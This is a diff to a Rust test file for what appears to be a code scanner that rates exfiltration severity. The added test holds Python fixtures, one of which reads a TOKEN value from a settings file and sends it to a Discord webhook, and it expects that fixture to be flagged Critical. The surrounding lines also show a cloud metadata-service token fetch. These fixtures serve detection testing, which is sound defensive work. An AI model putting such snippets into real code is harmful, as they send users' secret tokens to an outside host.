@@ -1464,6 +1464,18 @@ fn a_secret_named_variable_sent_to_a_webhook_is_exfiltration() {
     let telegram = "import requests\ndef verify(token):\n    \
                     return requests.get('https://api.telegram.org/bot{}/getMe'.format(token)).ok\n";
     assert!(severity_of("plugins/telegram.py", telegram, "exfiltration").is_none_or(|s| s < Severity::High));
+    // A value read from settings under a key naming a secret counts as
+    // its name would; a webhook message object (discord_webhook) sends what
+    // it was built with.
+    let settings = "import json\nfrom discord_webhook import DiscordWebhook\nwith open('settings.json') as f:\n    \
+                    data = json.load(f)\ndef boost(ctx):\n    content = data['TOKEN']\n    \
+                    DiscordWebhook(url='https://discord.com/api/webhooks/77/xyz', content=content).execute()\n";
+    assert_eq!(severity_of("booster/__init__.py", settings, "exfiltration"), Some(Severity::Critical));
+    let channel = settings.replace("data['TOKEN']", "data['channel']");
+    assert_eq!(severity_of("booster/__init__.py", &channel, "exfiltration"), None);
+    let chosen = "from discord_webhook import DiscordWebhook\ndef notify(url, token):\n    \
+                  DiscordWebhook(url=url, content=token).execute()\n";
+    assert!(severity_of("notify.py", chosen, "exfiltration").is_none_or(|s| s < Severity::High));
     let metadata = "import requests\ndef token():\n    return requests.get(\
                     'http://169.254.169.254/metadata/identity/oauth2/token', headers={'Metadata': 'true'}).json()\n";
     assert!(severity_of("cloud.py", metadata, "exfiltration").is_none_or(|s| s < Severity::High));
